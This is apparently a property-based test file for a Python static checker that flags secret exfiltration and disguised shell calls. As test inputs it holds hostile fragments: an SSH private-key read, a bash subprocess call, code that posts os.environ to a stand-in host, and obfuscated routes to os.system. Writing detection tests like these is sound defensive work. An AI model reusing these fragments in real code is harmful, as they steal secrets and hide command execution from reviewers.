"""What holds for every Python text: the checker returns, and disguises do not change what it finds."""

from __future__ import annotations

import base64
import textwrap

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from whet.guard.python.checker import check
from whet.guard.taint.containers import literal, plain
from whet.guard.taint.fold import DECODERS, binary, decoded, formatted, method, percent
from whet.guard.taint.mark import HOLE
from whet.guard.taint.value import LONGEST, UNKNOWN

NAMES = st.from_regex(r"[a-z]{3,8}_[a-z]{2,6}", fullmatch=True)
PIECES = (
    "import os\nexec(",
    "base64.b64decode(",
    "getattr(os, ",
    "''.join(",
    "chr(",
    ")",
    "]",
    "[",
    "(",
    "lambda x: ",
    "for x in os.environ:\n    ",
    "'a' * 99999999",
    "'{:>9999999999}'.format(1)",
    "2 ** 99999999",
    "1 << 999999999",
    "f'{x!r:>{y}}'",
    "\n",
    "if x:\n    ",
    "class A(B):\n    def f(self):\n        ",
    "match x:\n    case {'a': b}:\n        ",
    "*a, **k",
    "yield ",
    "await ",
    "requests.post(x, json=",
    "subprocess.run(['bash', '-c', ",
    "%pip x\n",
    ">>> ",
    "\x00",
    "\ud800",
    "é",
    "open('/root/.ssh/id_rsa')",
)


@given(st.text(max_size=200) | st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
@settings(max_examples=200, deadline=None)
def test_any_text_is_answered(text: str) -> None:
    seen = check("import os, requests, subprocess, base64\n" + text)
    assert all(hit.line >= 1 for hit in seen.hits)
    check(text)


@pytest.mark.parametrize(
    "text",
    [
        "-" * 20_000 + "1",
        "not " * 5_000 + "x",
        "(" * 500,
        "lambda:" * 3_000 + "1",
        "os" + ".a" * 20_000,
        "os" + "()" * 2_500,
        "x = " + "+".join(["'a'"] * 2_500),
        "x = " + "+".join(["'a'"] * 50_000),
        "if x:\n    pass\n" + "elif y:\n    pass\n" * 900,
        "def f(x): return f(f(x))\nf(f(1))\n",
        "def f(n):\n    return g(n + 1)\ndef g(n):\n    return f(n + 1)\nf(1)\n",
        "x = 'a' * 9\n" + "x = x + x\n" * 60 + "exec(x)\n",
        "x = [1]\n" + "x = [x, x]\n" * 40 + "exec(x)\n",
        "".join(f"{' ' * i}if x:\n" for i in range(90)) + " " * 90 + "pass\n",
    ],
    ids=range(14),
)
def test_hostile_shapes_come_back(text: str) -> None:
    check("import os\n" + text)


def _split(text: str, cut: int) -> str:
    cut = max(1, min(cut, len(text) - 1))
    return f"{text[:cut]!r} + {text[cut:]!r}"


@given(
    NAMES, NAMES, st.integers(1, 5), st.sampled_from(["plain", "function", "class", "try", "if", "with"]), st.booleans()
)
@settings(max_examples=100, deadline=None)
def test_a_sender_stays_found_under_other_names_and_in_other_places(
    first: str, second: str, copies: int, frame: str, aliased: bool
) -> None:
    module = "requests as " + second + "_m" if aliased else "requests"
    call = second + "_m" if aliased else "requests"
    body = f"{first} = dict(os.environ)\n{call}.post('https://a.example/x', json={first})\n"
    inner = textwrap.indent(body, "    ")
    framed = {
        "plain": body,
        "function": f"def {second}():\n{inner}",
        "class": f"class {second}:\n    def run(self):\n{textwrap.indent(inner, '    ')}",
        "try": f"try:\n{inner}except Exception:\n    pass\n",
        "if": f"if {second}:\n{inner}",
        "with": f"with open('x') as {second}:\n{inner}",
    }[frame]
    honest = "".join(f"def helper_{n}(value):\n    return [value, {n}]\n\n" for n in range(copies))
    text = f"import os\nimport {module}\n{honest}{framed}{honest}"
    assert [hit.rule for hit in check(text).hits] == ["secret-sent"]


@given(st.integers(1, 5), st.integers(1, 1), NAMES)
@settings(max_examples=60, deadline=None)
def test_a_hidden_call_stays_found_however_its_name_is_split(cut: int, module_cut: int, name: str) -> None:
    for text in (
        f"getattr(__import__({_split('os', module_cut)}), {_split('system', cut)})('id')",
        f"{name} = {_split('system', cut)}\nimport os\ngetattr(os, {name})('id')",
        f"import os as {name}\ngetattr({name}, ''.join([{_split('system', cut).replace(' + ', ', ')}]))('id')",
        f"import os\ngetattr(os, {'system'[::-1]!r}[::-1])('id')",
        f"import os\ngetattr(os, bytes({list(b'system')}).decode())('id')",
        f"import os, base64\ngetattr(os, base64.b64decode({base64.b64encode(b'system')!r}).decode())('id')",
    ):
        assert "hidden-call" in {hit.rule for hit in check(text).hits}


@given(st.sampled_from(sorted(DECODERS)), st.binary(max_size=200) | st.text(max_size=100))
@settings(max_examples=200, deadline=None)
def test_decoders_answer_with_bounded_text_or_not_at_all(name: str, data: bytes | str) -> None:
    result = decoded(name, [data])
    assert result is UNKNOWN or (isinstance(result, (str, bytes)) and len(result) <= LONGEST)


@given(
    st.sampled_from(["Add", "Mod", "Mult", "BitXor", "Pow", "LShift", "RShift", "FloorDiv", "Div"]),
    st.integers() | st.text(max_size=20) | st.binary(max_size=20) | st.lists(st.integers(), max_size=5),
    st.integers() | st.text(max_size=20) | st.binary(max_size=20) | st.lists(st.integers(), max_size=5),
)
@settings(max_examples=200, deadline=None)
def test_operators_never_fail_and_never_explode(operator: str, left: object, right: object) -> None:
    result = binary(operator, left, right)
    assert not isinstance(result, (str, bytes, list)) or len(result) <= LONGEST


def test_constants_are_worked_out() -> None:
    assert method("replace", "cXrl", ["X", "u"], {}) == "curl"
    assert method("join", "", [["cu", "rl"]], {}) == "curl"
    assert method("join", "-", [["a", UNKNOWN]], {}) == f"a-{HOLE}"
    assert formatted("{}{1}{name}{bad.x}", ["a", "b"], {"name": "c"}) == "abc{bad.x}"
    assert percent("%s %d%% %(x)s", ("a", 3)) == f"a 3% {HOLE}"
    assert decoded("bytes.fromhex", ["6f73"]) == b"os"
    assert decoded("codecs.decode", ["bf", "rot13"]) == "os"
    assert binary("Mult", "ab", 3) == "ababab"
    assert binary("Mult", "ab", 10**9) is UNKNOWN


CONSTS = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=4), inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=60, deadline=None)
@given(CONSTS)
def test_a_constant_is_the_same_after_it_was_a_value(const: object) -> None:
    assert plain(literal(const)) == const
